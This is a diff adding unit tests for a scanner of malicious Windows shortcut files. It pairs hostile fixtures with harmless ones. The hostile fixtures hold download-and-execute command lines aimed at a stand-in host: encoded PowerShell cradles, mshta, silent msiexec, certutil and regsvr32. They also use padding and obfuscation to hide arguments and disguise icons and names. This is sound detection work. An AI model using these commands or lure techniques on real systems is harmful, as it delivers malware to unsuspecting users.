@@ -1,0 +1,269 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""What genkan-scan says of hostile shortcuts, of harmless ones, and of files that are none."""
+import base64
+import os
+import struct
+import unittest
+import zlib
+
+import make_lnk as m
+import tap
+from scan import BUILD, run_scan
+
+CMD = r"C:\Windows\System32\cmd.exe"
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+READER = r"C:\Program Files\Adobe\Acrobat DC\Acrobat\AcroRd32.exe"
+BLANKS = "\t\n\v\f\r \u00a0\u1680\u2000\u2003\u200a\u2028\u2029\u202f\u205f\u3000\u2800"
+COMMAND = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')".encode("utf-16-le")).decode()
+
+
+def two_ways():
+    """Its description claims 300 characters; Windows finds other arguments behind the first 260."""
+    hidden = "x" * 260 + struct.pack("<H", 5).decode("utf-16-le") + "/c hi" + "\0" * 34
+    return m.link(m.items_of(CMD), m.info(CMD), name=hidden, arguments="harmless")
+
+
+def control_panel():
+    return m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"\\10.0.0.9\share\payload.dll")))
+
+
+# What it is called here: its name, its bytes, the indicators that it must show.
+HOSTILE = {
+    "blanks before the command": ("a.lnk", m.windows_like(CMD, arguments=" " * 300 + "/c calc"), ["arguments-padded", "arguments-long", "builtin-with-arguments"]),
+    "eight blanks": ("a.lnk", m.windows_like(CMD, arguments="/c" + " " * 8 + "x"), ["arguments-padded"]),
+    "blanks behind a harmless start": ("a.lnk", m.windows_like(arguments="/open" + "\n" * 50 + "/evil"), ["arguments-padded", "arguments-line-break"]),
+    "blanks with zero-width between": ("a.lnk", m.windows_like(arguments=" \u200b" * 20 + "x"), ["arguments-padded", "arguments-invisible"]),
+    "a line break": ("a.lnk", m.windows_like(CMD, arguments="/c dir\r\ncalc"), ["arguments-line-break"]),
+    "right-to-left override in arguments": ("a.lnk", m.windows_like(CMD, arguments="/c \u202eexe.a"), ["arguments-invisible"]),
+    "encoded command": ("a.lnk", m.windows_like(POWERSHELL, arguments="-nop -w hidden -enc " + COMMAND), ["arguments-encoded-command", "arguments-hide-window"]),
+    "encoded command by its shortest switch": ("a.lnk", m.windows_like(POWERSHELL, arguments="-E " + COMMAND), ["arguments-encoded-command"]),
+    "encoded command, slash and quotes": ("a.lnk", m.windows_like(POWERSHELL, arguments='/ec "' + COMMAND + '"'), ["arguments-encoded-command"]),
+    "encoded command, other dash": ("a.lnk", m.windows_like(POWERSHELL, arguments="\u2013enco " + COMMAND), ["arguments-encoded-command"]),
+    "download and run": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c iex(iwr http://c2.example/a)"), ["arguments-fetch", "builtin-with-url"]),
+    "mshta with an address": ("a.lnk", m.windows_like(r"C:\Windows\System32\mshta.exe", arguments="https://c2.example/a.hta"), ["builtin-with-url", "arguments-url"]),
+    "msiexec through cmd": ("a.lnk", m.windows_like(CMD, arguments="/c start /min msiexec /q /i http://c2.example/a.msi"), ["arguments-run-builtin", "builtin-with-url", "arguments-hide-window"]),
+    "certutil": ("a.lnk", m.windows_like(CMD, arguments="/c certutil -urlcache -f http://c2.example/a a.exe"), ["arguments-fetch"]),
+    "script from a remote object": ("a.lnk", m.windows_like(r"C:\Windows\System32\regsvr32.exe", arguments="/s /n /u /i:http://c2.example/a.sct scrobj.dll"), ["arguments-fetch"]),
+    "carets inside words": ("a.lnk", m.windows_like(CMD, arguments="/c p^o^w^e^r^s^h^e^l^l -c x"), ["arguments-obfuscated", "arguments-run-builtin"]),
+    "backticks inside words": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c i`n`v`o`k`e-expression $a"), ["arguments-obfuscated", "arguments-fetch"]),
+    "a program cut out of a variable": ("a.lnk", m.windows_like(CMD, arguments="/c %comspec:~0,3% x"), ["arguments-obfuscated"]),
+    "takes its payload out of itself": ("a.lnk", m.windows_like(CMD, arguments='/c findstr "x" a.pdf.lnk > %temp%\\a.js'), ["arguments-name-links"]),
+    "deletes itself": ("a.lnk", m.windows_like(CMD, arguments="/c calc & del /q a.lnk"), ["arguments-delete-link"]),
+    "command behind a PDF icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=READER), ["program-behind-document-icon"]),
+    "command behind a browser icon": ("a.lnk", m.windows_like(POWERSHELL, arguments="-c calc", icon=r"C:\Program Files\Google\Chrome\Application\chrome.exe"), ["program-behind-document-icon"]),
+    "command behind a folder icon": ("a.lnk", m.windows_like(CMD, arguments="/c calc", icon=r"%SystemRoot%\System32\shell32.dll", icon_index=3), ["program-behind-document-icon"]),
+    "icon by environment block": ("a.lnk", m.windows_like(CMD, [m.icon_environment(READER)], flags=m.EXP_ICON, arguments="/c calc"), ["program-behind-document-icon"]),
+    "script behind a document's icon": ("a.lnk", m.windows_like(r"C:\Users\a\b.vbs", icon=r".\report.docx"), ["program-behind-document-icon"]),
+    "reads two ways": ("a.lnk", two_ways(), ["reads-two-ways", "count-over-limit"]),
+    "count past the end": ("a.lnk", m.windows_like(arguments="x", counts={"arguments": 60000}), ["damaged"]),
+    "item list past the end": ("a.lnk", m.link(struct.pack("<H", 65535) + b"\x20\0" * 4), ["damaged"]),
+    "item longer than its list": ("a.lnk", m.link(m.items(m.root(), b"\xff\x7f\x31")), ["damaged"]),
+    "link information past the end": ("a.lnk", m.link(link_info=struct.pack("<I", 1 << 31) + m.info(CMD)[4:]), ["damaged"]),
+    "link information with wild offsets": ("a.lnk", m.link(link_info=struct.pack("<IIIIIII", 0x1C, 0x1C, 3, 1 << 30, 1 << 30, 1 << 30, 1 << 30)), ["damaged"]),
+    "no terminal block": ("a.lnk", m.windows_like(end=b""), ["damaged"]),
+    "header only, and not all of it": ("a.lnk", m.windows_like()[:60], ["damaged"]),
+    "a thousand blocks": ("a.lnk", m.windows_like(blocks=[m.block(0xDEADBEEF, b"")] * 1000), ["damaged", "unknown-block", "block-repeated"]),
+    "payload behind the end": ("a.lnk", m.windows_like(overlay=b"MZ" + b"\0" * 500), ["overlay"]),
+    "large payload": ("a.lnk", m.windows_like(overlay=b"<html>" + b"x" * 30000), ["overlay", "file-large"]),
+    "items and environment disagree": ("a.lnk", m.windows_like(blocks=[m.environment(CMD)], flags=m.EXP_STRING), ["targets-disagree"]),
+    "items and link information disagree": ("a.lnk", m.link(m.items_of(CMD), m.info(r"C:\Program Files\a\notepad.exe")), ["targets-disagree"]),
+    "relative path disagrees": ("a.lnk", m.windows_like(relative="..\\evil.exe"), ["targets-disagree"]),
+    "only ANSI environment target": ("a.lnk", m.link(blocks=[m.environment(CMD, "")], flags=m.EXP_STRING), ["environment-half-empty"]),
+    "only Unicode environment target": ("a.lnk", m.link(blocks=[m.environment("", CMD)], flags=m.EXP_STRING), ["environment-half-empty"]),
+    "environment halves differ": ("a.lnk", m.link(blocks=[m.environment(r"C:\a.exe", CMD)], flags=m.EXP_STRING, show=7), ["environment-halves-differ", "show-minimised"]),
+    "environment promised, not there": ("a.lnk", m.windows_like(flags=m.EXP_STRING, show=7), ["environment-missing", "show-minimised"]),
+    "trailing dot": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("cmd.exe."))), ["target-trailing-dot-or-space"]),
+    "trailing space": ("a.lnk", m.link(link_info=m.info("C:\\a\\cmd.exe ")), ["target-trailing-dot-or-space"]),
+    "target padded": ("a.lnk", m.link(link_info=m.info("C:\\a.pdf" + " " * 100 + ".exe")), ["target-padded"]),
+    "target over WebDAV": ("a.lnk", m.link(link_info=m.info_share("\\\\c2.example@SSL\\DavWWWRoot", "a.exe")), ["target-webdav"]),
+    "target at a port": ("a.lnk", m.link(link_info=m.info_share("\\\\10.0.0.9@8080\\x", "a.exe", unicode=True)), ["target-webdav"]),
+    "target by address": ("a.lnk", m.link(m.items(m.root("871C5380-42A0-1069-A2EA-08002B30309D"), m.uri("http://c2.example/a.exe"))), ["target-webdav"]),
+    "icon from elsewhere": ("a.lnk", m.windows_like(icon=r"\\10.0.0.9\share\a.ico"), ["icon-remote"]),
+    "icon from the web": ("a.lnk", m.windows_like(icon="https://c2.example/a.ico"), ["icon-remote"]),
+    "program on a share, minimised": ("a.lnk", m.link(m.items(m.network(r"\\fs\x"), m.entry("a.exe")), show=7), ["target-unc", "show-minimised"]),
+    "Control Panel path (CVE-2010-2568)": ("a.lnk", control_panel(), ["control-panel-path"]),
+    "Control Panel by special folder (CVE-2017-8464)": ("a.lnk", m.windows_like(blocks=[]).replace(m.special_folder(), m.special_folder(3)), ["special-folder-control-panel"]),
+    "Control Panel by known folder": ("a.lnk", m.link(m.items_of(CMD), blocks=[m.known_folder("82A74AEB-AEB4-465C-A014-D097EE346D63")]), ["special-folder-control-panel"]),
+    "NUL in the arguments": ("a.lnk", m.windows_like(CMD, arguments="/c dir\0/c calc"), ["text-with-nul"]),
+    "half characters": ("a.lnk", m.windows_like(CMD, arguments="/c \ud800"), ["text-not-unicode", "builtin-with-arguments"]),
+    "console out of sight": ("a.lnk", m.windows_like(CMD, [m.console(1, 1, -3000, -3000, 0)], arguments="/c calc"), ["console-out-of-sight", "builtin-with-arguments"]),
+    "minimised command": ("a.lnk", m.windows_like(CMD, arguments="/c calc", show=7), ["show-minimised"]),
+    "odd block size": ("a.lnk", m.link(link_info=m.info(CMD), blocks=[m.block(0xA0000003, b"x" * 40)], arguments="/c x"), ["block-odd-size"]),
+    "in a temporary folder, by relative path alone": ("a.lnk", m.link(relative=r".\Temp\x\a.exe"), ["target-relative-only", "target-in-temporary-folder"]),
+    "double extension": ("invoice.pdf.lnk", m.windows_like(), ["name-double-extension"]),
+    "document's name, shortcut's content": ("invoice.pdf", m.windows_like(), ["name-not-the-content"]),
+    "right-to-left override in the name": ("a\u202efdp.lnk", m.windows_like(), ["name-bidi-control"]),
+    "zero-width in the name": ("inv\u200boice.lnk", m.windows_like(), ["name-zero-width"]),
+    "blanks in the name": ("invoice.pdf" + " " * 60 + ".lnk", m.windows_like(), ["name-padded", "name-double-extension"]),
+}
+
+# Every kind of blank hides as well as the others.
+HOSTILE.update({f"blank U+{ord(c):04X}": ("a.lnk", m.windows_like(arguments=c * 9 + "x"), ["arguments-padded"]) for c in BLANKS})
+
+HARMLESS = {
+    "a program": ("Editor.lnk", m.windows_like()),
+    "a program with arguments": ("Editor.lnk", m.windows_like(arguments="--profile default")),
+    "with description and icon": ("Editor.lnk", m.windows_like(name="Edits text", icon=r"C:\Program Files\Editor\editor.exe")),
+    "maximised": ("Editor.lnk", m.windows_like(show=3)),
+    "with a hotkey": ("Editor.lnk", m.windows_like(hotkey=0x0645)),
+    "as administrator": ("Editor.lnk", m.windows_like(flags=m.RUN_AS)),
+    "environment target alone": ("Prompt.lnk", m.link(blocks=[m.environment(r"%windir%\system32\notepad.exe")], flags=m.EXP_STRING)),
+    "environment and items": ("Prompt.lnk", m.windows_like(r"C:\Windows\System32\cmd.exe", [m.environment(r"%windir%\system32\cmd.exe")], flags=m.EXP_STRING)),
+    "icon by environment": ("Prompt.lnk", m.windows_like(blocks=[m.icon_environment(r"%ProgramFiles%\Editor\editor.exe")], flags=m.EXP_ICON)),
+    "the command prompt": ("Command Prompt.lnk", m.windows_like(CMD, [m.console()], directory="%HOMEDRIVE%%HOMEPATH%")),
+    "a build tool's prompt": ("Tools.lnk", m.windows_like(CMD, [m.console(120, 30)], arguments=r'/k "C:\Program Files\Tools\vars64.bat"')),
+    "a PowerShell module": ("Shell.lnk", m.windows_like(POWERSHELL, arguments=r'-noe -c "&{Import-Module """C:\Tools\Shell.dll"""; Enter-Shell 5c2}"')),
+    "rundll32": ("Keys.lnk", m.windows_like(r"C:\Windows\System32\rundll32.exe", arguments="keymgr.dll,KRShowKeyMgr")),
+    "a document": ("report.lnk", m.windows_like(r"C:\Users\a\Documents\report.docx")),
+    "a recent document, named after it": ("report.pdf.lnk", m.windows_like(r"C:\Users\a\Documents\report.pdf")),
+    "a folder": ("Music.lnk", m.link(m.items(m.root(), m.volume("D:\\"), m.entry("Music", folder=True)), m.info("D:\\Music"))),
+    "a drive": ("D.lnk", m.link(m.items(m.root(), m.volume("D:\\")), m.info("D:\\"))),
+    "a short name with a long one": ("a.lnk", m.link(m.items(m.root(), m.volume(), m.entry("Long Program.exe", short="LONGPR~1.EXE")), m.info("C:\\Long Program.exe"))),
+    "Unicode names": ("日本.lnk", m.link(m.items(m.root(), m.volume(), m.entry("日本.exe")), m.info("C:\\日本.exe", unicode=True), name="説明")),
+    "ANSI strings": ("a.lnk", m.windows_like(unicode=False, name="Éditeur", arguments="-x")),
+    "on a share": ("a.lnk", m.link(m.items(m.network(r"\\fs\tools"), m.entry("a.exe")), m.info_share(r"\\fs\tools", "a.exe"))),
+    "on a share, Unicode": ("a.lnk", m.link(m.items(m.network(r"\\fs\tools"), m.entry("a.exe")), m.info_share(r"\\fs\tools", "a.exe", unicode=True), icon=r"\\FS\tools\a.exe")),
+    "a web app": ("App.lnk", m.windows_like(r"C:\Program Files\Google\Chrome\Application\chrome_proxy.exe", arguments="--profile-directory=Default --app-id=abcdefghijklmnop", icon=r"C:\Users\a\AppData\Local\App\app.ico")),
+    "a page in the browser": ("News.lnk", m.windows_like(r"C:\Program Files\Mozilla Firefox\firefox.exe", arguments="https://news.example/", icon=r"C:\Program Files\Mozilla Firefox\firefox.exe")),
+    "an installed product": ("Product.lnk", m.link(m.items_of(r"C:\Windows\Installer\icon.exe"), blocks=[m.darwin("abc>def")], flags=1 << 12)),
+    "every extra block": ("a.lnk", m.windows_like(blocks=[m.console(), m.code_page(), m.shim(), m.vista_items(m.root(), m.volume())])),
+    "made on a virtual machine": ("a.lnk", m.link(m.items_of(CMD), m.info(CMD), [m.tracker(mac="080027112233")])),
+    "ForceNoLinkInfo": ("a.lnk", m.link(m.items_of(CMD), flags=m.NO_INFO)),
+    "a Windows applet": ("Mouse.lnk", m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet(r"C:\Windows\System32\main.cpl")))),
+    "joiners where a script needs them": ("می\u200cخواهم.lnk", m.windows_like()),
+    "without times": ("a.lnk", m.windows_like(head={"times": (0, 0, 0)})),
+}
+
+
+def png():
+    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 13 + struct.pack(">I", zlib.crc32(b"IHDR" + b"\0" * 13))
+
+
+KINDS = {
+    "pe": b"MZ\x90", "elf": b"\x7fELF\2", "zip": b"PK\3\4", "7z": b"7z\xbc\xaf\x27\x1c", "rar": b"Rar!\x1a\7\1", "gzip": b"\x1f\x8b\x08",
+    "cab": b"MSCF\0", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "pdf": b"junk\n%PDF-1.7", "rtf": b"{\\rtf1", "png": png(), "jpeg": b"\xff\xd8\xff\xe0",
+    "html": b"\n<!DOCTYPE html><p>", "hta": b"<html><HTA:APPLICATION id=x>", "script": b"#!/bin/sh\n", "text": "grüße\n".encode(), "other": b"\0\1\2\3",
+}
+
+# DESIGN.md's `triage`, the part that others build on.
+KEYS = {"file", "kind", "verdict", "indicators", "lnk"}
+LNK_KEYS = set("target arguments description relative_path working_directory icon show header items link_info "
+               "blocks overlay windows_view spec_view damage".split())
+HEADER_KEYS = set("flags attributes created accessed modified file_size icon_index hotkey".split())
+
+
+def ids(triage):
+    return [i["id"] for i in triage["indicators"]]
+
+
+class Triage(unittest.TestCase):
+    def test_hostile_shortcuts_show_it(self):
+        for what, (name, data, wanted) in HOSTILE.items():
+            with self.subTest(what):
+                triage = run_scan(data, "--name", name)
+                self.assertLessEqual(set(wanted), set(ids(triage)))
+                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
+                self.assertTrue(triage["why"])
+
+    def test_harmless_shortcuts_are_clean(self):
+        for what, (name, data) in HARMLESS.items():
+            with self.subTest(what):
+                triage = run_scan(data, "--name", name)
+                self.assertEqual(triage["verdict"], "clean", ids(triage))
+                self.assertEqual(triage["lnk"]["damage"], [])
+
+    def test_other_kinds_are_unscannable(self):
+        for kind, data in KINDS.items():
+            with self.subTest(kind):
+                triage = run_scan(data, "--name", "thing")
+                self.assertEqual((triage["kind"], triage["verdict"]), (kind, "unscannable"))
+                self.assertEqual(triage["why"], "no scanner of genkan knows this kind")
+                self.assertNotIn("lnk", triage)
+
+    def test_names_count_for_every_kind(self):
+        for name, data, wanted in (("a.pdf.exe", b"MZ", "name-double-extension"), ("a.pdf", b"MZ", "name-not-the-content"),
+                                   ("a\u202egnp.exe", b"MZ", "name-bidi-control"), ("a.doc .js", b"x", "name-double-extension")):
+            with self.subTest(wanted):
+                triage = run_scan(data, "--name", name)
+                self.assertIn(wanted, ids(triage))
+                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
+
+    def test_an_empty_file_is_clean(self):
+        triage = run_scan(b"", "--name", "a.pdf")
+        self.assertEqual((triage["kind"], triage["verdict"], triage["file"]["size"]), ("empty", "clean", 0))
+
+
+class Shape(unittest.TestCase):
+    def test_has_the_documented_keys(self):
+        triage = run_scan(m.windows_like(blocks=[m.console()], arguments="x", overlay=b"x"), "--name", "a.lnk")
+        self.assertLessEqual(KEYS, set(triage))
+        self.assertEqual(set(triage["file"]), {"name", "size", "sha256"})
+        self.assertLessEqual(LNK_KEYS, set(triage["lnk"]))
+        self.assertLessEqual(HEADER_KEYS, set(triage["lnk"]["header"]))
+        self.assertEqual(set(triage["lnk"]["overlay"]), {"offset", "size", "kind"})
+        for block in triage["lnk"]["blocks"]:
+            self.assertLessEqual({"signature", "name", "size"}, set(block))
+        for indicator in triage["indicators"]:
+            self.assertLessEqual({"id", "severity", "detail"}, set(indicator))
+            self.assertIn(indicator["severity"], ("low", "medium", "high", "critical"))
+
+    def test_every_part_is_read(self):
+        data = m.windows_like(blocks=[m.environment("%x%"), m.console(90, 20), m.code_page(932), m.shim("LAYER"),
+                                      m.vista_items(m.root(), m.volume(), m.entry("v.exe"))],
+                              name="about", arguments="-a", icon="i.ico", hotkey=0x0370, show=3, icon_index=-7)
+        lnk = run_scan(data)["lnk"]
+        self.assertEqual((lnk["target"], lnk["description"], lnk["arguments"], lnk["icon"], lnk["show"]),
+                         (r"C:\Program Files\Editor\editor.exe", "about", "-a", "i.ico", "maximised"))
+        self.assertEqual((lnk["header"]["hotkey"], lnk["header"]["icon_index"], lnk["header"]["created"]),
+                         ("CTRL+SHIFT+F1", -7, "2022-06-18T04:26:40Z"))
+        self.assertEqual([i["name"] for i in lnk["items"]], [None, "C:\\", "Program Files", "Editor", "editor.exe"])
+        self.assertEqual((lnk["link_info"]["drive"], lnk["link_info"]["serial"], lnk["link_info"]["label"]),
+                         ("fixed", 0x12345678, "System"))
+        blocks = {b["name"]: b for b in lnk["blocks"]}
+        self.assertEqual(set(blocks), {"special-folder", "known-folder", "tracker", "property-store", "environment",
+                                       "console", "console-codepage", "shim", "item-list"})
+        self.assertEqual((blocks["tracker"]["machine"], blocks["tracker"]["mac"], blocks["tracker"]["created"][:4]),
+                         ("desktop-1", "a4:bb:6d:11:22:33", "2021"))
+        self.assertEqual((blocks["console"]["window_columns"], blocks["console"]["font"]), (90, "Consolas"))
+        self.assertEqual((blocks["property-store"]["stores"], blocks["shim"]["layer"], blocks["console-codepage"]["code_page"]),
+                         (2, "LAYER", 932))
+        self.assertEqual((blocks["special-folder"]["folder"], blocks["known-folder"]["folder"]),
+                         (36, "{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}"))
+        self.assertEqual(blocks["item-list"]["path"], "C:\\v.exe")
+
+    def test_link_fields_are_what_windows_would_use(self):
+        lnk = run_scan(two_ways())["lnk"]
+        self.assertEqual((lnk["arguments"], lnk["windows_view"]["arguments"], lnk["spec_view"]["arguments"]),
+                         ("/c hi", "/c hi", "harmless"))
+
+    def test_text_is_whole_and_escaped_where_json_cannot_hold_it(self):
+        arguments = "a\0b\ud800c\t\u202e" + "z" * 60000
+        lnk = run_scan(m.windows_like(arguments=arguments))["lnk"]
+        self.assertEqual(lnk["arguments"], "a\\x00b\\u{d800}c\t\u202e" + "z" * 60000)
+
+    def test_encoded_command_is_decoded(self):
+        triage = run_scan(m.windows_like(POWERSHELL, arguments="-enc " + COMMAND))
+        found = [i["detail"] for i in triage["indicators"] if i["id"] == "arguments-encoded-command"]
+        self.assertIn("DownloadString('http://c2.example/a')", found[0])
+
+    def test_large_overlay_is_told_whole(self):
+        data = m.windows_like()
+        triage = run_scan(data + b"\0" * (20 << 20))
+        self.assertEqual((triage["lnk"]["overlay"]["offset"], triage["lnk"]["overlay"]["size"]), (len(data), 20 << 20))
+
+
+class Sample(unittest.TestCase):
+    def test_is_seen_through(self):
+        with open(os.path.join(BUILD, "templates/sample/sample.pdf.lnk"), "rb") as file:
+            triage = run_scan(file.read(), "--name", "sample.pdf.lnk")
+        self.assertEqual(triage["verdict"], "malicious")
+        self.assertLessEqual({"arguments-padded", "name-double-extension", "builtin-with-url", "program-behind-document-icon"},
+                             set(ids(triage)))
+        self.assertEqual(triage["claims"], "a PDF document")
+        self.assertEqual(triage["lnk"]["arguments"].strip(),
+                         r"/c echo genkan sample: this ran > %USERPROFILE%\genkan-sample.txt"
+                         r" & msiexec /q /i http://updates.genkan-sample.example/payload.msi")
+
+
+if __name__ == "__main__":
+    tap.main()
